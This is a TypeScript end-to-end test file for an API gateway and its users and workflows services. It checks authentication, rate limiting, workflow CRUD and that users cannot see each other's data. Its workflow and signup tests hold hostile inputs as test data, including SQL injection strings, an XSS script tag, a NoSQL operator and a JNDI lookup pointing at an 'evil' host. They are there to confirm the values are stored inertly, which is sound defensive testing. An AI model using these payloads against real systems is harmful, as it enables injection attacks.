import assert from "node:assert/strict";
import type { AddressInfo } from "node:net";
import { closeRedis, createAmqp, createLogger, createMetrics, createPgPool, createRedis, waitForRedis, type AmqpClient, type PgPool, type RedisClient } from "@noa/kit";
import { createTestDatabase, createTestVhost, ensureRedisCluster, redisClusterNodes, uniqueSuffix, type TestDatabase, type TestVhost } from "@noa/kit/testing";
import { runMigrations } from "@noa/migrate";
import { buildApp as buildUsers } from "@noa/users";
import { buildApp as buildWorkflows } from "@noa/workflows";
import type { FastifyInstance } from "fastify";
import { buildApp as buildGateway } from "../src/app";
import { testSettings } from "./support/gateway";
import { bearer, send } from "./support/http";

const JWT = { secret: "e2e-secret-shared-by-users-and-gateway-0123", issuer: "noa", audience: "noa", ttlSeconds: 600 };

/**
 * The real services behind the real gateway: users and workflows on one
 * migrated PostgreSQL database, the Redis Cluster (rate limits and both
 * services' caches) and an isolated RabbitMQ vhost (workflows publishes its
 * jobs with confirms before it answers); every request goes to the gateway
 * over HTTP.
 */
describe("end to end through the gateway", function () {
  this.timeout(60_000);
  let db: TestDatabase;
  let vhost: TestVhost;
  let amqp: AmqpClient;
  let pool: PgPool;
  const redisClients: RedisClient[] = [];
  const apps: FastifyInstance[] = [];
  let gateway: string;

  const listen = async (app: FastifyInstance) => {
    apps.push(app);
    await app.listen({ port: 0, host: "127.0.0.1" });
    return `http://127.0.0.1:${(app.server.address() as AddressInfo).port}`;
  };
  const redis = async (keyPrefix?: string) => {
    const client = createRedis({ clusterNodes: redisClusterNodes, logger, keyPrefix });
    redisClients.push(client);
    await waitForRedis(client);
    return client;
  };
  const logger = createLogger("gateway-e2e", "silent");

  before(async () => {
    await ensureRedisCluster();
    [db, vhost] = await Promise.all([createTestDatabase(`gateway_e2e_${uniqueSuffix()}`), createTestVhost(`gateway_e2e_${uniqueSuffix()}`)]);
    await runMigrations({ databaseUrl: db.url, logger });
    pool = createPgPool({ url: db.url, max: 5, logger });
    amqp = createAmqp({ url: vhost.url, logger });
    const users = await listen(buildUsers({ pool, redis: await redis(`test:e2e:users:${uniqueSuffix()}:`), logger, jwt: JWT }));
    const { app: workflowsApp } = buildWorkflows({ pool, redis: await redis(`test:e2e:workflows:${uniqueSuffix()}:`), amqp, logger });
    const workflows = await listen(workflowsApp);
    await amqp.waitForConnect(10_000);
    const settings = testSettings({ users, workflows, storage: users }, { bodyLimitBytes: 1_048_576 });
    settings.jwt = { secret: JWT.secret, issuer: JWT.issuer, audience: JWT.audience };
    gateway = await listen(await buildGateway({ settings, redis: await redis(), logger, metrics: createMetrics("gateway") }));
  });

  after(async () => {
    for (const app of apps.reverse()) await app.close();
    await amqp?.close();
    for (const client of redisClients) await closeRedis(client);
    await pool?.end();
    await Promise.all([db?.drop(), vhost?.delete()]);
  });

  it("signs up, logs in and reads the profile with the issued token", async () => {
    const email = `e2e-${uniqueSuffix()}@example.com`;
    const signup = await send(gateway, "POST", "/api/auth/signup", {
      headers: { "content-type": "application/json" },
      body: JSON.stringify({ email, password: "correct horse battery", displayName: "Robert'); DROP TABLE users;--" }),
    });
    assert.equal(signup.status, 201, signup.text);
    const login = await send(gateway, "POST", "/api/auth/login", { headers: { "content-type": "application/json" }, body: JSON.stringify({ email, password: "correct horse battery" }) });
    assert.equal(login.status, 200, login.text);
    const token = login.json.accessToken as string;
    const me = await send(gateway, "GET", "/api/users/me", { headers: bearer(token) });
    assert.equal(me.status, 200, me.text);
    assert.equal(me.json.email, email);
    assert.equal(me.json.displayName, "Robert'); DROP TABLE users;--");
    assert.equal(me.json.id, signup.json.user.id);
    // A forged x-user-id cannot read someone else's profile: the gateway replaces it with the token's subject.
    const forged = await send(gateway, "GET", "/api/users/me", { headers: { ...bearer(token), "x-user-id": "00000000-0000-4000-8000-000000000000" } });
    assert.equal(forged.json.id, signup.json.user.id);
  });

  it("counts wrong passwords against the login limit and answers 429 after 5", async () => {
    const email = `e2e-limit-${uniqueSuffix()}@example.com`;
    await send(gateway, "POST", "/api/auth/signup", { headers: { "content-type": "application/json" }, body: JSON.stringify({ email, password: "the right password" }) });
    const attempt = (password: string) =>
      send(gateway, "POST", "/api/auth/login", { headers: { "content-type": "application/json", "x-forwarded-for": "203.0.113.9" }, body: JSON.stringify({ email, password }) });
    for (let i = 0; i < 5; i++) assert.equal((await attempt(`wrong ${i}`)).status, 401);
    const limited = await attempt("the right password");
    assert.equal(limited.status, 429);
    assert.ok(Number(limited.headers["retry-after"]) > 0);
  });

  it("creates, reads, lists, updates and deletes a workflow through the gateway, storing injection-shaped strings verbatim", async () => {
    const email = `e2e-wf-${uniqueSuffix()}@example.com`;
    const signup = await send(gateway, "POST", "/api/auth/signup", { headers: { "content-type": "application/json" }, body: JSON.stringify({ email, password: "workflow owner pw" }) });
    assert.equal(signup.status, 201, signup.text);
    const auth = { ...bearer(signup.json.accessToken as string), "content-type": "application/json" };
    const hostile = {
      name: "x'); DROP TABLE workflows; --",
      description: '<script>alert("x")</script> {"$gt": ""} ${jndi:ldap://evil/a} \\u0000 ünïcødé 🚀 %s%n',
    };

    const created = await send(gateway, "POST", "/api/workflows", {
      headers: auth,
      body: JSON.stringify({ ...hostile, steps: [{ name: "1 OR 1=1", kind: "http_call", config: { url: "http://x/?a=1;DELETE FROM users" } }] }),
    });
    assert.equal(created.status, 201, created.text);
    const id = created.json.id as string;
    assert.equal(created.json.name, hostile.name);
    assert.equal(created.json.description, hostile.description);

    const read = await send(gateway, "GET", `/api/workflows/${id}`, { headers: auth });
    assert.equal(read.status, 200, read.text);
    assert.equal(read.json.name, hostile.name);
    assert.equal(read.json.description, hostile.description);
    assert.deepEqual(read.json.steps.map((step: { name: string; config: unknown }) => [step.name, step.config]), [["1 OR 1=1", { url: "http://x/?a=1;DELETE FROM users" }]]);

    const second = await send(gateway, "POST", "/api/workflows", { headers: auth, body: JSON.stringify({ name: "second" }) });
    assert.equal(second.status, 201, second.text);
    const list = await send(gateway, "GET", "/api/workflows?limit=10", { headers: auth });
    assert.equal(list.status, 200, list.text);
    assert.deepEqual(list.json.items.map((item: { name: string }) => item.name).sort(), ["second", hostile.name].sort());

    const updated = await send(gateway, "PATCH", `/api/workflows/${id}`, { headers: auth, body: JSON.stringify({ status: "active", name: "renamed' OR '1'='1" }) });
    assert.equal(updated.status, 200, updated.text);
    assert.equal((await send(gateway, "GET", `/api/workflows/${id}`, { headers: auth })).json.name, "renamed' OR '1'='1");

    // Another user sees none of it: the gateway forwards each caller's own verified id.
    const other = await send(gateway, "POST", "/api/auth/signup", { headers: { "content-type": "application/json" }, body: JSON.stringify({ email: `e2e-other-${uniqueSuffix()}@example.com`, password: "someone else pw" }) });
    const otherAuth = bearer(other.json.accessToken as string);
    assert.equal((await send(gateway, "GET", `/api/workflows/${id}`, { headers: { ...otherAuth, "x-user-id": signup.json.user.id } })).status, 404);
    assert.deepEqual((await send(gateway, "GET", "/api/workflows", { headers: otherAuth })).json.items, []);

    const deleted = await send(gateway, "DELETE", `/api/workflows/${id}`, { headers: auth });
    assert.equal(deleted.status, 204, deleted.text);
    assert.equal((await send(gateway, "GET", `/api/workflows/${id}`, { headers: auth })).status, 404);
    assert.equal((await send(gateway, "GET", "/api/workflows", { headers: { "content-type": "application/json" } })).status, 401);
  });

  it("passes the services' own validation errors through unchanged", async () => {
    const signup = await send(gateway, "POST", "/api/auth/signup", { headers: { "content-type": "application/json" }, body: JSON.stringify({ email: `e2e-bad-${uniqueSuffix()}@example.com`, password: "validation pw" }) });
    const bad = await send(gateway, "POST", "/api/workflows", {
      headers: { ...bearer(signup.json.accessToken as string), "content-type": "application/json" },
      body: JSON.stringify({ name: "ok", status: "flying" }),
    });
    assert.equal(bad.status, 400);
    assert.match(bad.json.message, /status/);
  });
});
